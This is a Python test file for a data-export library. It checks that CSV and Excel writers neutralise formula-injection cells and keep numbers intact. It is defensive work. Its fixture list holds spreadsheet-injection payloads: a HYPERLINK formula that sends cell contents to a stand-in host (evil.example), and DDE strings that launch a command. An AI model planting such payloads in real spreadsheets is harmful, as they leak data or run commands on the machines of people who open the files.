"""Writing tables: CSV cells a spreadsheet would run as formulas are neutralised, numbers stay."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tumbuh.files import FileError, csv_bytes, csv_stream, neutralise_cell, write_table, xlsx_stream
from tumbuh.files.write import csv_safe

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("cell", MALICIOUS)
def test_it_puts_an_apostrophe_before_a_cell_a_spreadsheet_would_run(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Budi", "", "7172011501250003", "12,5kg", "a=b", " =1"])
def test_it_leaves_ordinary_text_alone(cell: str) -> None:
    assert neutralise_cell(cell) == cell


@pytest.mark.parametrize("cell", ["-1.23", "+62", "-12,5", "-2"])
def test_it_leaves_a_cell_that_is_a_plain_number_alone(cell: str) -> None:
    assert neutralise_cell(cell) == cell


@settings(deadline=None)  # timing varies on shared CI machines; the property is what counts
@given(st.lists(st.text(max_size=12), min_size=1, max_size=30))
def test_the_column_rule_is_the_cell_rule(cells: list[str]) -> None:
    frame = pl.DataFrame({"text": cells}, schema={"text": pl.String})
    assert csv_safe(frame)["text"].to_list() == [neutralise_cell(c) for c in cells]


def test_numbers_of_a_numeric_column_stay_numbers() -> None:
    frame = pl.DataFrame({"name": ["=1+1", "Ani"], "z": [-1.23, 2.0], "n": [-3, 4]})
    text = csv_bytes(frame).decode()
    assert text.splitlines() == ["name,z,n", "'=1+1,-1.23,-3", "Ani,2.0,4"]


def test_a_categorical_column_is_neutralised_too() -> None:
    frame = pl.DataFrame({"c": ["=1+1", "ok"]}, schema={"c": pl.Categorical})
    assert csv_bytes(frame).decode().splitlines() == ["c", "'=1+1", "ok"]


def test_a_csv_file_is_neutralised_in_every_part(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    parts = [pl.DataFrame({"a": ["=1"], "b": [1]}), pl.DataFrame({"a": ["@x"], "b": [-2]})]
    write_table(parts, path)
    assert path.read_text().splitlines() == ["a,b", "'=1,1", "'@x,-2"]


def test_a_file_of_ones_own_data_may_keep_every_value(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_table([pl.DataFrame({"a": ["=1"]})], path, neutralise=False)
    assert path.read_text().splitlines() == ["a", "=1"]


def test_xlsx_writes_a_formula_looking_cell_as_text(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_table([pl.DataFrame({"a": [MALICIOUS[0]], "z": [-1.5]})], path, worksheet="laporan")
    with zipfile.ZipFile(io.BytesIO(path.read_bytes())) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        workbook = book.read("xl/workbook.xml").decode()
    assert "<f>" not in sheet  # no formula anywhere
    assert "<v>-1.5</v>" in sheet  # the number is a number
    assert 'name="laporan"' in workbook


def test_an_empty_cell_stays_empty() -> None:
    frame = pl.DataFrame({"a": [None, "=1"]}, schema={"a": pl.String})
    assert csv_safe(frame)["a"].to_list() == [None, "'=1"]


def test_a_workbook_of_several_sheets_writes_formula_looking_cells_as_text() -> None:
    from tumbuh.files.write import workbook_bytes

    content = workbook_bytes(
        {
            "Master Ansit": pl.DataFrame({"a": [MALICIOUS[0]], "n": [3]}),
            "Reviu Kinerja": pl.DataFrame({"b": ["=1+1"], "z": [-1.5]}),
        }
    )
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [book.read(f"xl/worksheets/sheet{i}.xml").decode() for i in (1, 2)]
        workbook = book.read("xl/workbook.xml").decode()
    assert all("<f>" not in sheet for sheet in sheets)
    assert "<v>-1.5</v>" in sheets[1]
    assert 'name="Master Ansit"' in workbook
    assert 'name="Reviu Kinerja"' in workbook


def test_a_streamed_csv_has_one_header_and_every_chunk_neutralised() -> None:
    schema = {"name": pl.String, "n": pl.Int64}
    chunks = [
        pl.DataFrame([], schema=schema, orient="row"),
        pl.DataFrame([(MALICIOUS[0], 1)], schema=schema, orient="row"),
        pl.DataFrame([("Ani", 2)], schema=schema, orient="row"),
    ]
    body = b"".join(csv_stream(chunks))
    assert pl.read_csv(io.BytesIO(body)).rows() == [("'" + MALICIOUS[0], 1), ("Ani", 2)]


def test_a_streamed_xlsx_keeps_text_as_text_and_counts_its_rows() -> None:
    out = io.BytesIO()
    written = xlsx_stream(["name", "n"], [[(MALICIOUS[0], 1)], [("Ani", 2)]], out)
    assert written == 2
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    assert pl.read_excel(io.BytesIO(out.getvalue())).rows() == [(MALICIOUS[0], 1), ("Ani", 2)]


def test_a_streamed_xlsx_refuses_more_rows_than_a_sheet_holds(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("tumbuh.files.write.XLSX_MAX_ROWS", 1)
    with pytest.raises(FileError):
        xlsx_stream(["n"], [[(1,), (2,)]], io.BytesIO())
